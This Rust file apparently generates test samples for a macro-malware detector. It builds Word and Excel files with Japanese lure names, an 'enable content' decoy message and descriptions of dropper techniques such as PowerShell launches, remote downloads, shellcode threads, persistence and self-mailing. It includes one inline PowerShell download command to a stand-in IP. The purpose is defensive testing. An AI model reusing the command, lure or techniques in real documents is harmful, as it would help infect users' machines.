//! Droppers in the styles of the last twenty years, one technique each, and an honest tool that uses neighbours of them
//! all. Each starts with a call into a library that does not exist: where macros are allowed by mistake, it ends there.

use crate::Sample;
use crate::office::macros;
use crate::office::ooxml::Package;
use crate::office::vba::{Module, Project};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    vec![
        Sample {
            id: "fv01",
            file_name: "請求書.docm",
            about: "AutoOpen runs PowerShell through WScript.Shell, both in pieces",
            make: || word(include_str!("../../text/droppers/wscript.bas")),
        },
        Sample {
            id: "fv02",
            file_name: "注文書.xlsm",
            about: "Workbook_Open fetches with URLDownloadToFile and starts with Shell",
            make: || excel(include_str!("../../text/droppers/urldownload.bas")),
        },
        Sample {
            id: "fv03",
            file_name: "通知.doc",
            about: "Document_Open: ServerXMLHTTP, ADODB.Stream, Shell.Application",
            make: || macros::word_97(&document("ThisDocument", include_str!("../../text/droppers/stream.bas"))),
        },
        Sample {
            id: "fv04",
            file_name: "明細.xls",
            about: "Auto_Open starts mshta through WMI",
            make: || macros::excel_97(&standard(include_str!("../../text/droppers/wmi.bas"))),
        },
        Sample {
            id: "fv05",
            file_name: "見積依頼.docm",
            about: "AutoClose decodes Base64 with an XML node, writes a script and runs it",
            make: || word(include_str!("../../text/droppers/xmldom.bas")),
        },
        Sample {
            id: "fv06",
            file_name: "履歴書.docm",
            about: "memory is allocated, filled from an array and run as a thread",
            make: || word(include_str!("../../text/droppers/memory.bas")),
        },
        Sample {
            id: "fv07",
            file_name: "価格表.xlsm",
            about: "CallByName asks a reversed ProgID for a method in pieces",
            make: || excel(include_str!("../../text/droppers/callbyname.bas")),
        },
        Sample {
            id: "fv08",
            file_name: "案内_mac.docm",
            about: "MacScript fetches and starts on macOS",
            make: || word(include_str!("../../text/droppers/macscript.bas")),
        },
        Sample {
            id: "fv09",
            file_name: "申込書.docm",
            about: "the command stands in a form's caption and tip",
            make: || word(include_str!("../../text/droppers/caption.bas")),
        },
        Sample {
            id: "fv10",
            file_name: "契約書.docm",
            about: "the command stands in a document variable",
            make: || word(include_str!("../../text/droppers/docvar.bas")),
        },
        Sample {
            id: "fv10v",
            file_name: "契約書.docm",
            about: "the command stands in a document variable that the document has",
            make: || {
                let project = standard(include_str!("../../text/droppers/docvar.bas"));
                Package::docm("契約書", macros::vba_project(&project))
                    .part(
                        "word/settings.xml",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
                        "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars>\
                         <w:docVar w:name=\"page\" w:val=\"powershell -c iwr http://198.51.100.7/x -OutFile harmless-none.exe\"/>\
                         </w:docVars></w:settings>",
                    )
                    .internal("word/document.xml", "settings", "settings.xml")
                    .build()
            },
        },
        Sample {
            id: "t15",
            file_name: "旅程表.xlsm",
            about: "pieces of an address in cells and in text that is reversed, cut, replaced and combined",
            make: || {
                let project = document("ThisWorkbook", include_str!("../../text/droppers/itinerary.bas"));
                Package::xlsm("日付\t内容\n4/1\thttps:\t//", macros::vba_project(&project)).build()
            },
        },
        Sample {
            id: "fv11",
            file_name: "写真.docm",
            about: "an ink control's Painted event runs a command decoded from hexadecimal",
            make: || {
                let source = include_str!("../../text/droppers/painted.bas");
                docm(&document("ThisDocument", source))
            },
        },
        Sample {
            id: "fv12",
            file_name: "予定表.xlsm",
            about: "OnTime names the procedure that fetches, writes a script and runs it",
            make: || {
                let later = Module::standard("Module1", include_str!("../../text/droppers/ontime-later.bas"));
                let start = Module::document("ThisWorkbook", include_str!("../../text/droppers/ontime.bas"));
                xlsm(&Project::new(vec![start, later]))
            },
        },
        Sample {
            id: "fv13",
            file_name: "回覧.docm",
            about: "the macro copies itself into the template of all documents, as the viruses of the nineties did",
            make: || docm(&document("ThisDocument", include_str!("../../text/droppers/project.bas"))),
        },
        Sample {
            id: "fv14",
            file_name: "設定.docm",
            about: "opening the document allows access to macro projects and adds a program to those started at logon",
            make: || docm(&document("ThisDocument", include_str!("../../text/droppers/registry.bas"))),
        },
        Sample {
            id: "fv15",
            file_name: "お知らせ.docm",
            about: "the macro mails the document to everybody in the address book",
            make: || word(include_str!("../../text/droppers/mail.bas")),
        },
        Sample {
            id: "fv16",
            file_name: "支払通知.docm",
            about: "a function of the macro decodes object and command with Xor",
            make: || word(include_str!("../../text/droppers/decoder.bas")),
        },
        Sample {
            id: "fv17",
            file_name: "出張申請.docm",
            about: "the macro asks about the machine and its user, removes a trace and starts a program",
            make: || word(include_str!("../../text/droppers/gates.bas")),
        },
        Sample {
            id: "fv18",
            file_name: "航空券表示.docm",
            about: "a button fetches and starts: nothing happens on opening",
            make: || docm(&document("ThisDocument", include_str!("../../text/droppers/button.bas"))),
        },
        Sample {
            id: "bv01",
            file_name: "勤怠提出.xlsm",
            about: "an honest tool that copies memory, deletes its own temporary file, mails itself on a button, opens a folder",
            make: || excel(include_str!("../../text/droppers/honest-tool.bas")),
        },
    ]
}

fn document(name: &str, source: &str) -> Project {
    Project::new(vec![Module::document(name, source)])
}

fn standard(source: &str) -> Project {
    Project::new(vec![Module::document("ThisDocument", ""), Module::standard("Module1", source)])
}

fn word(source: &str) -> Vec<u8> {
    docm(&standard(source))
}

fn docm(project: &Project) -> Vec<u8> {
    let text = "文書は保護されています。\n「コンテンツの有効化」を押すと内容が表示されます。";
    Package::docm(text, macros::vba_project(project)).build()
}

fn excel(source: &str) -> Vec<u8> {
    xlsm(&document("ThisWorkbook", source))
}

fn xlsm(project: &Project) -> Vec<u8> {
    Package::xlsm("日付\t内容\n4/1\t出張", macros::vba_project(project)).build()
}
